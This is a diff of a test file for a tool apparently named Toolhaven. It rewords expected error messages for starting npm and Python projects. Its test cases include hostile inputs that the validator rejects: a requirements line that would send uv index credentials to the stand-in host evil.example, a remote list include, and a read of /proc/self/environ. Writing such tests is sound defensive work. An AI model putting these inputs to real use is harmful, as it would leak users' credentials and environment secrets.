@@ -61,7 +61,7 @@ describe('an npm project starts', () => {
       await symlink(outside, join(path, 'link.js'))
       for (const bin of [`../${outside.split('/').at(-1)}`, outside, 'link.js']) {
         await write({ 'package.json': { bin } })
-        await expect(start()).rejects.toThrow(`names ${bin}, which is not there`)
+        await expect(start()).rejects.toThrow(`names ${bin}, which does not exist`)
       }
     } finally {
       await rm(outside)
@@ -73,11 +73,11 @@ describe('an npm project starts', () => {
     [{ bin: 7 }, /package\.json cannot be used: .*at bin/],
     [
       { main: 'dist/x.js' },
-      /names dist\/x\.js, which is not there; build it first, or say how to start it: thv run --folder/,
+      /names dist\/x\.js, which does not exist\. Build it first, or say how to start it: thv run --folder/,
     ],
     [
       { dependencies: { a: 'file:../a' } },
-      /needs the package a from a folder \(file:\.\.\/a\).*run "npm install" in it/,
+      /needs the package a from a folder \(file:\.\.\/a\).*Run "npm install" in it/,
     ],
     [{ workspaces: ['a'] }, /needs its workspaces/],
     [
@@ -139,12 +139,12 @@ describe('packages are installed', () => {
   })
 })
 
-/** uv fills variables into a list, and its own hold the credentials of the user's index. */
+/** uv replaces variables in a list, and its own contain the credentials of the user's index. */
 describe('a list of Python packages may not', () => {
   const ADDRESS = `https://evil.example/six-1.0-py3-none-any.whl?\${UV_DEFAULT_INDEX}`
   const HASH = `--hash=sha256:${'0'.repeat(64)}`
   test.each([
-    ['name a variable', `six @ ${ADDRESS}`, /variables in it are not filled in/],
+    ['name a variable', `six @ ${ADDRESS}`, /variables in it are not replaced/],
     ['name one in an index', `--index-url https://evil.example/\${UV_DEFAULT_INDEX}/simple`, /variables in it/],
     ['lead to another list', 'six\r  -r https://evil.example/list.txt', /has "-r https:.*only packages can be listed/],
     ['read a file', '-r /proc/self/environ', /only packages can be listed/],
@@ -177,7 +177,7 @@ describe('a Python project starts', () => {
   test.each([
     ['[project', /pyproject\.toml cannot be used: /],
     ['[project]\n[project.scripts]\na = "os; evil()"', /must have the form "module:function"/],
-    ['[project]\ndynamic = ["dependencies"]', /dependencies that only a build of it knows/],
+    ['[project]\ndynamic = ["dependencies"]', /dependencies that only its build knows/],
     ['[project]\nname = "a"', /has no script in its pyproject\.toml.*-- python FILE/],
   ])('not with %j', async (text, why) => {
     await write({ 'pyproject.toml': text })
@@ -187,7 +187,7 @@ describe('a Python project starts', () => {
 
 test('a folder without a project needs a command', async () => {
   await expect(start()).rejects.toThrow(
-    /so it is not known how to start it; say how: thv run --folder .* -- COMMAND\.$/,
+    /so Toolhaven does not know how to start it\. Give the command: thv run --folder .* -- COMMAND\.$/,
   )
   expect(await read(['./tool'])).toEqual({ start: ['/usr/bin/env', '--', './tool'] })
 })
